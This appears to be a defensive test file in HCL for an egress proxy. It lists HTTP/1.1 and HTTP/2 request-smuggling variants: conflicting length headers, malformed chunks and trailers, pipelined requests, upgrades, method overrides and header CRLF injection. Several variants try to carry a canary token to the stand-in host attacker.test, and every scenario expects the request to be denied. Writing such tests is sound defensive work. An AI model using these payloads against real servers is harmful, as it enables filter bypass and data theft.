# Messages with two readings. A filter and an origin that take one apart in different
# places let through what neither has seen whole.

scenario "framing-of-http1" {
  describe = "where a body ends, and whether there is one: each of these has been read in two ways by somebody"
  cases    = ["HP-01", "HP-02", "HP-03", "HP-07", "HP-08", "HP-23"]
  policy   = "policies/web.hcl"
  for_each = {
    length_then_chunked = "Content-Length: 5\nTransfer-Encoding: chunked"
    chunked_then_length = "Transfer-Encoding: chunked\nContent-Length: 5"
    two_lengths         = "Content-Length: 5\nContent-Length: 36"
    list_of_lengths     = "Content-Length: 5, 36"
    plus_length         = "Content-Length: +36"
    hexadecimal_length  = "Content-Length: 0x24"
    negative_length     = "Content-Length: -1"
    comma               = "Transfer-Encoding: chunked,\nContent-Length: 5"
    gzip_after          = "Transfer-Encoding: chunked, gzip\nContent-Length: 5"
    tab                 = "Transfer-Encoding:\tchunked\nContent-Length: 5"
    quoted              = "Transfer-Encoding: \"chunked\""
    identity            = "Transfer-Encoding: identity\nContent-Length: 5"
    x                   = "Transfer-Encoding: xchunked"
    twice               = "Transfer-Encoding: chunked\nTransfer-Encoding: chunked"
    folded              = "Content-Length: 5\nTransfer-Encoding:\n chunked"
    folded_note         = "X-Note: a\n\tb\nContent-Length: 5"
    blank_before_colon  = "Transfer-Encoding : chunked\nContent-Length: 5"
    no_colon            = "X-Note\nContent-Length: 5"
    blank_name          = ": a\nContent-Length: 5"
    blank_in_name       = "X Note: a\nContent-Length: 5"
    nul_in_value        = "X-Note: a\u0000b\nContent-Length: 5"
    underscore          = "Transfer_Encoding: chunked\nContent-Length: 5, 5"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = crlf("POST /v1/items/1 HTTP/1.1\nHost: echo.example.com\nContent-Type: application/json\n${each.value}\n\n0\n\nPUT /gists HTTP/1.1\nHost: echo.example.com\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    reason  = ["malformed_request", "body_not_granted", "path_not_granted"]
    leak    = none
  }
}

scenario "chunks-of-http1" {
  describe = "sizes, extensions and trailers of chunks that parsers disagree about"
  cases    = ["HP-05", "HP-06", "HP-16"]
  policy   = "policies/web.hcl"
  for_each = {
    bare_lf_size      = "1\n{\r\n0\r\n\r\n"
    lf_in_extension   = "1;a\nb\r\n{\r\n0\r\n\r\n"
    negative          = "-1\r\n{\r\n0\r\n\r\n"
    prefixed          = "0x1\r\n{\r\n0\r\n\r\n"
    overflow          = "10000000000000001\r\n{\r\n0\r\n\r\n"
    no_end            = "1\r\n{0\r\n\r\n"
    blank             = "1 \t\r\n{x\r\n0\r\n\r\n"
    trailer_length    = "0\r\nContent-Length: 100\r\n\r\n"
    trailer_host      = "0\r\nHost: attacker.test\r\n\r\n"
    trailer_key       = "0\r\nAuthorization: Bearer planted\r\n\r\n"
    trailer_malformed = "0\r\nno colon\r\n\r\n"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = "POST /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nX-Note: ${canary.token}\r\n\r\n${each.value}"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "secret-in-what-surrounds-chunks" {
  describe = "the bodies are granted; extensions, sizes and trailers carry the secret"
  cases    = ["HP-06", "HP-16", "EXF-08"]
  policy   = "policies/web.hcl"
  for_each = {
    extension = "extension"
    trailer   = "trailer"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = "POST /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n17${each.key == "extension" ? ";note=${canary.token}" : ""}\r\n{\"passed\":1,\"failed\":0}\r\n0\r\n${each.key == "trailer" ? "X-Note: ${canary.token}\r\n" : ""}\r\n"
    }
  }
  expect { leak = none }
}

scenario "lines-of-http1" {
  describe = "request lines and line ends that are none"
  cases    = ["HP-04", "HP-11", "HP-24", "AUD-09"]
  policy   = "policies/web.hcl"
  for_each = {
    bare_lf     = "GET /v1/items/1 HTTP/1.1\nHost: echo.example.com\nX-Note: "
    one_bare_lf = "GET /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\nX-Hidden: 1\r\nX-Note: "
    bare_cr     = "GET /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Hidden: a\rX-Note: "
    cr_version  = "GET /v1/items/1 HTTP/1.1\r\r\nHost: echo.example.com\r\nX-Note: "
    version_32  = "GET /v1/items/1 HTTP/1.32\r\nHost: echo.example.com\r\nX-Note: "
    version_3   = "GET /v1/items/1 HTTP/3.0\r\nHost: echo.example.com\r\nX-Note: "
    version_09  = "GET /v1/items/1\r\nHost: echo.example.com\r\nX-Note: "
    lower       = "GET /v1/items/1 http/1.1\r\nHost: echo.example.com\r\nX-Note: "
    two_blanks  = "GET  /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    tabs        = "GET\t/v1/items/1\tHTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    no_host     = "GET /v1/items/1 HTTP/1.1\r\nX-Note: "
    two_hosts   = "GET /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nHost: attacker.test\r\nX-Note: "
    hosts_other = "GET /v1/items/1 HTTP/1.1\r\nHost: attacker.test\r\nHost: echo.example.com\r\nX-Note: "
    star        = "GET * HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    no_slash    = "GET v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    fragment    = "GET /v1/items/1#a HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    get_body    = "GET /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nContent-Length: 3\r\nX-Note: "
    trace       = "TRACE /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    invented    = "EXFIL /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
    lower_get   = "get /v1/items/1 HTTP/1.1\r\nHost: echo.example.com\r\nX-Note: "
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = "${each.value}${canary.token}\r\n\r\n"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "second-request-in-the-same-write" {
  describe = "a granted GET, and behind it what is not granted, sent before the first has its answer"
  cases    = ["HP-09", "HP-21"]
  policy   = "policies/web.hcl"
  for_each = {
    post   = "POST /gists HTTP/1.1\nHost: echo.example.com\nContent-Length: 26\n\n"
    path   = "GET /v1/secrets/"
    method = "PUT /publish/"
  }
  attempt {
    raw {
      connect   = "echo.example.com:443"
      tls       = true
      responses = 2
      bytes     = crlf("GET /v1/items/1 HTTP/1.1\nHost: echo.example.com\n\n${each.value}${canary.token}${each.key == "post" ? "" : " HTTP/1.1\nHost: echo.example.com\n\n"}")
    }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
    arrives = ["GET https://echo.example.com/v1/items/1"]
  }
}

scenario "body-behind-a-granted-delete" {
  describe = "a method that has no body, with one"
  cases    = ["HP-17"]
  policy   = "policies/web.hcl"
  for_each = ["DELETE", "GET", "HEAD"]
  attempt {
    http {
      method = each.value
      url    = "https://echo.example.com/v1/items/1"
      body   = canary.token
    }
  }
  expect {
    verdict = "deny"
    reason  = ["body_not_granted", "malformed_request"]
    leak    = none
  }
}

scenario "upgrade-to-something-else" {
  describe = "a connection that stops being HTTP"
  cases    = ["HP-12", "HP-13"]
  policy   = "policies/web.hcl"
  for_each = {
    h2c       = "Connection: Upgrade, HTTP2-Settings\nUpgrade: h2c\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"
    invented  = "Connection: Upgrade\nUpgrade: tunnel/1"
    websocket = "Connection: Upgrade\nUpgrade: websocket\nSec-WebSocket-Version: 13\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="
    tls       = "Connection: Upgrade\nUpgrade: TLS/1.3"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = crlf("GET /v1/items/1 HTTP/1.1\nHost: echo.example.com\n${each.value}\n\n${canary.token}")
    }
  }
  expect { leak = none }
}

scenario "connection-names-other-headers" {
  describe = "Connection asks a proxy to drop what the proxy itself has put in"
  cases    = ["HP-14"]
  policy   = "policies/triage.hcl"
  given {
    credential = { bot = canary.bot }
  }
  attempt {
    http {
      url = "https://api.example.com/repos/acme/app/issues?state=open"
      headers = {
        Connection = "close, Authorization, Host, X-Note"
        X-Note     = canary.token
      }
    }
  }
  expect { leak = none }
}

scenario "method-in-a-header" {
  describe = "a granted POST that asks the origin to act on another method"
  cases    = ["PATH-10"]
  policy   = "policies/web.hcl"
  for_each = ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Method", "X-Original-Method"]
  attempt {
    http {
      method  = "POST"
      url     = "https://echo.example.com/v1/items/1"
      headers = { Content-Type = "application/json", X-Note = canary.token, (each.value) = "DELETE" }
      body    = json({ passed = 1, failed = 0 })
    }
  }
  expect {
    verdict = "deny"
    reason  = "method_override"
    leak    = none
  }
}

scenario "blocks-of-http2" {
  describe = "header blocks that become another request where they are translated"
  cases    = ["HP-18", "HP-19", "TLS-02"]
  policy   = "policies/web.hcl"
  for_each = ["crlf_in_value", "lf_in_value", "nul_in_value", "capital_in_name", "colon_in_name", "connection", "two_paths", "authority_and_host", "unknown_pseudo", "te", "upgrade", "crlf_in_path", "blank_in_method", "no_path", "other_scheme", "path_after_header", "two_authorities", "other_authority", "userinfo", "transfer_encoding", "content_length", "connect", "extended_connect"]
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      alpn    = ["h2"]
      bytes_base64 = {
        crlf_in_value      = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note", "a\r\nx-evil: ${canary.token}"]], "")
        lf_in_value        = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note", "a\n${canary.token}"]], "")
        nul_in_value       = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note", "a\u0000${canary.token}"]], "")
        capital_in_name    = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["X-Note", canary.token]], "")
        colon_in_name      = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note: a", canary.token]], "")
        connection         = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["connection", "x-note"], ["x-note", canary.token]], "")
        two_paths          = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], [":path", "/${canary.token}"]], "")
        authority_and_host = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["host", "attacker.test"], ["x-note", canary.token]], "")
        unknown_pseudo     = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], [":note", canary.token]], "")
        te                 = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["te", "gzip"], ["x-note", canary.token]], "")
        upgrade            = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["upgrade", "h2c"], ["x-note", canary.token]], "")
        crlf_in_path       = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1 HTTP/1.1\r\nX-Evil: ${canary.token}"]], "")
        blank_in_method    = http2([[":method", "GET /${canary.token} HTTP/1.1"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"]], "")
        no_path            = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], ["x-note", canary.token]], "")
        other_scheme       = http2([[":method", "GET"], [":scheme", "ftp"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note", canary.token]], "")
        path_after_header  = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], ["x-note", canary.token], [":path", "/v1/items/1"]], "")
        two_authorities    = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com"], [":authority", "attacker.test"], [":path", "/v1/items/1"], ["x-note", canary.token]], "")
        other_authority    = http2([[":method", "GET"], [":scheme", "https"], [":authority", "attacker.test"], [":path", "/v1/items/1"], ["x-note", canary.token]], "")
        userinfo           = http2([[":method", "GET"], [":scheme", "https"], [":authority", "echo.example.com@attacker.test"], [":path", "/v1/items/1"], ["x-note", canary.token]], "")
        transfer_encoding  = http2([[":method", "POST"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["transfer-encoding", "chunked"], ["x-note", canary.token]], "0\r\n\r\n")
        content_length     = http2([[":method", "POST"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["content-type", "application/json"], ["content-length", "5"], ["x-note", canary.token]], json({ passed = 1, failed = 0 }))
        connect            = http2([[":method", "CONNECT"], [":authority", "attacker.test:443"], ["x-note", canary.token]], "")
        extended_connect   = http2([[":method", "CONNECT"], [":protocol", "websocket"], [":scheme", "https"], [":authority", "echo.example.com"], [":path", "/v1/items/1"], ["x-note", canary.token]], "")
      }[each.value]
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}
